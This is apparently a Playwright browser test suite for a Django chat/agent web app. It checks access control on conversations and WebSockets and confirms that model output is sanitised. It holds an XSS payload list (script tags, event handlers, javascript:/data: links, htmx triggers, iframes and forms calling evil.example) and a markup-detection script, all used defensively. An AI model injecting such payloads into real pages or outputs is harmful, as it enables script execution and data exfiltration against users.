"""What the browser must never do: show bob alice's conversation, or run the model's HTML.

bob (an outsider) gets a 404 for alice's pages and a 4403 close for her socket, from a
real page in chromium. Model output full of XSS attempts — in the final answer, an
agent's mission and report, a skill's arguments — reaches the page through both paths
(a live push and a fresh render) and must produce no dialog, no request off 127.0.0.1,
and no live markup: no script, no event handler, no javascript:/data: link, no htmx
attribute.
"""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from orchestration.records.events import event_record
from tests.browser.conftest import assert_timeline_complete, wait_turn
from tests.factories import conversation_for, turn_for
from tests.support.llm_server import Agent, Plan
from tests.support.processes import production_env

pytestmark = [pytest.mark.slow, pytest.mark.django_db(transaction=True)]

# Opens a socket from the page's own origin (so the origin check passes) and reports how
# it was closed and what it received first; the page itself closes it (1000) after a message.
OPEN_SOCKET = """
path => new Promise(resolve => {
  const received = [];
  const socket = new WebSocket(`ws://${location.host}${path}`);
  socket.onmessage = event => { received.push(event.data); socket.close(1000); };
  socket.onclose = event => resolve({code: event.code, received});
})
"""


class TestAnOutsider:
    @pytest.fixture
    def alices(self, alice):
        conversation = conversation_for(alice, title="Alice's private plans")
        event_record(type="turn.started", turn=turn_for(conversation), summary="Turn 1 started")
        return conversation

    def test_cannot_open_alices_pages(self, servers, visit, alices, bob):
        bob_tab = visit(servers(workers=0), "bob")
        bob_tab.expect_failure(rf"^404 GET .*/conversations/{alices.pk}/")
        bob_tab.expect_failure("the server responded with a status of 404")
        for path in (f"/conversations/{alices.pk}/", f"/conversations/{alices.pk}/audit/",
                     f"/conversations/{alices.pk}/audit.json"):
            response = bob_tab.goto(path)
            assert response.status == 404, path
            expect(bob_tab.page.locator("body")).not_to_contain_text("Alice's private plans")
        bob_tab.goto("/")
        expect(bob_tab.page.locator(".conversations")).not_to_contain_text("Alice's private plans")

    def test_cannot_subscribe_to_alices_socket(self, servers, visit, alices, bob):
        site = servers(workers=0)
        path = f"/ws/conversations/{alices.pk}/?last=0"

        bob_tab = visit(site, "bob")
        bob_tab.goto("/")
        assert bob_tab.page.evaluate(OPEN_SOCKET, path) == {"code": 4403, "received": []}

        anonymous = visit(site)
        anonymous.goto("/login/")
        assert anonymous.page.evaluate(OPEN_SOCKET, path) == {"code": 4403, "received": []}

        # the same request from alice's page is accepted and replays her event
        alice_tab = visit(site, "alice")
        alice_tab.goto("/")
        owner = alice_tab.page.evaluate(OPEN_SOCKET, path)
        assert owner["code"] == 1000
        assert "Turn 1 started" in "".join(owner["received"])


XSS = [
    "<script>alert('script')</script>",
    "<img src=x onerror=\"alert('img')\">",
    "<svg onload=\"alert('svg')\"><circle r=\"5\"></circle></svg>",
    "<a href=\"javascript:alert('href')\">raw javascript link</a>",
    "<a href=\"data:text/html,<script>alert('data')</script>\">raw data link</a>",
    "<a hx-get=\"/logout/\" hx-trigger=\"load\">htmx link</a>",
    "<div hx-get=\"https://evil.example/hx\" hx-trigger=\"load\" hx-swap-oob=\"true\" id=\"messages\">htmx div</div>",
    "[markdown javascript link](javascript:alert('md'))",
    "[mixed case link](JaVaScRiPt:alert('case'))",
    "[markdown data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgnbWQnKTwvc2NyaXB0Pg==)",
    "![tracking pixel](https://evil.example/pixel.png)",
    "<iframe src=\"https://evil.example/frame\"></iframe>",
    "<object data=\"https://evil.example/object\"></object>",
    "<link rel=\"stylesheet\" href=\"https://evil.example/style.css\">",
    "<style>@import url(https://evil.example/import.css);</style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/refresh\">",
    "<base href=\"https://evil.example/\">",
    "<details open ontoggle=\"alert('toggle')\">details</details>",
    "<input autofocus onfocus=\"alert('focus')\">",
    "<form action=\"https://evil.example/form\"><button>go</button></form>",
    "<a href=\"https://example.com/\" onclick=\"alert('click')\">a plain link with a handler</a>",
    "[a safe link](https://example.com/ \"title\")",
]
CORPUS = "Here is what you asked for.\n\n" + "\n\n".join(XSS)

# Looks at what reached the page: live markup from model output, in the chat or timeline.
LIVE_MARKUP = """
() => {
  const found = [];
  for (const root of document.querySelectorAll("#messages, #timeline, #agent-graph")) {
    for (const el of root.querySelectorAll("*")) {
      const tag = el.tagName.toLowerCase();
      if (["script", "img", "svg", "iframe", "object", "embed", "link", "style", "meta", "base", "form", "input"].includes(tag))
        found.push(tag);
      for (const attr of el.attributes) {
        if (attr.name.startsWith("on") || attr.name.startsWith("hx-") || attr.name.startsWith("ws-")
            || attr.name.startsWith("data-hx"))
          found.push(`${tag}[${attr.name}]`);
      }
      if (tag === "a" && el.hasAttribute("href") && !/^(https?|mailto):$/.test(el.protocol))
        found.push(`a[href=${el.getAttribute("href")}]`);
    }
  }
  return found;
}
"""


def test_model_output_cannot_run_script_or_call_out(servers, visit, alice, llm, request):
    agent = Agent(
        "writer", ["tasks.create"], [("tasks.create", {"title": "<img src=x onerror=alert('title')>"})],
        report=CORPUS, extra={"mission": "<script>alert('mission')</script> mission:writer",
                              "context": XSS[1]},
    )
    llm.respond = Plan([agent], answer=CORPUS)
    site = servers()
    alice_tab = visit(site, "alice")
    conversation_id = alice_tab.new_conversation()
    page = alice_tab.page

    alice_tab.send("Show me " + XSS[0] + XSS[1])  # the user's own words are escaped too
    answer = page.locator("#messages .message.assistant .content")
    expect(answer).to_contain_text("Here is what you asked for.")
    turn = wait_turn(conversation_id, site)
    assert turn.status == "completed", turn.error
    assert llm.errors == []
    assert_timeline_complete(alice_tab, conversation_id)
    page.eval_on_selector_all("#timeline details", "rows => rows.forEach(r => r.open = true)")
    page.wait_for_timeout(1000)  # give any handler or load a moment to fire
    pushed = page.evaluate(LIVE_MARKUP)
    alice_tab.screenshot(request.node, "xss-pushed")

    page.reload()
    alice_tab.wait_connected()
    expect(answer).to_contain_text("Here is what you asked for.")
    page.eval_on_selector_all("#timeline details", "rows => rows.forEach(r => r.open = true)")
    page.wait_for_timeout(1000)
    rendered = page.evaluate(LIVE_MARKUP)

    assert pushed == [] and rendered == []
    assert alice_tab.dialogs == []
    assert alice_tab.outside_requests() == []
    assert not [url for url in alice_tab.requests if url.endswith("/logout/")]
    # the words survived as text: escaped in the user's message and the timeline, links kept
    expect(page.locator("#messages .message.user")).to_contain_text("<script>alert('script')</script>")
    expect(page.locator("#timeline")).to_contain_text("<script>alert('mission')</script>")
    expect(answer.locator("a[href='https://example.com/']")).to_have_count(1)
    expect(answer).to_contain_text("markdown javascript link")
    # e.g. "Refused to execute inline event handler …": something got past the sanitiser
    assert alice_tab.console_errors == []
    alice_tab.screenshot(request.node, "xss-rendered")



@pytest.mark.parametrize("production", [True, False], ids=["debug-off", "debug-on"])
def test_a_missing_page_is_styled_and_breaks_no_policy(servers, visit, alice, request, production):
    """With DEBUG off, as in production, and on, as in the demo (where Django's technical
    page, with inline styles the CSP refuses and no way back, would show)."""
    alice_tab = visit(servers(workers=0, env=production_env() if production else None), "alice")
    alice_tab.expect_failure(r"^404 GET .*/no/such/page/$")  # the page's own status, and nothing else
    alice_tab.expect_failure("the server responded with a status of 404")
    response = alice_tab.goto("/no/such/page/")
    assert response.status == 404
    page = alice_tab.page
    expect(page.locator("h1")).to_have_text("Page not found")
    expect(page.locator(".topbar")).to_contain_text("alice")
    alice_tab.screenshot(request.node, "404")
    page.get_by_role("link", name="Back to your conversations").click()
    expect(page.locator(".conversations")).to_be_attached()


def test_the_admins_audit_pages_log_no_console_error(servers, visit, staff, alice, request):
    """The visit fixture fails the test on any console error or failed request: the
    admin's pages (which name no icon of their own) included."""
    conversation = conversation_for(alice, title="Audited")
    event_record(type="turn.started", turn=turn_for(conversation), summary="Turn 1 started")
    staff_tab = visit(servers(workers=0), "staff")
    for path in ("/admin/", "/admin/orchestration/event/", "/admin/orchestration/conversation/"):
        response = staff_tab.goto(path)
        assert response.status == 200, path
    expect(staff_tab.page.locator("#result_list")).to_contain_text("Audited")
    staff_tab.page.wait_for_load_state("networkidle")  # the icon request too
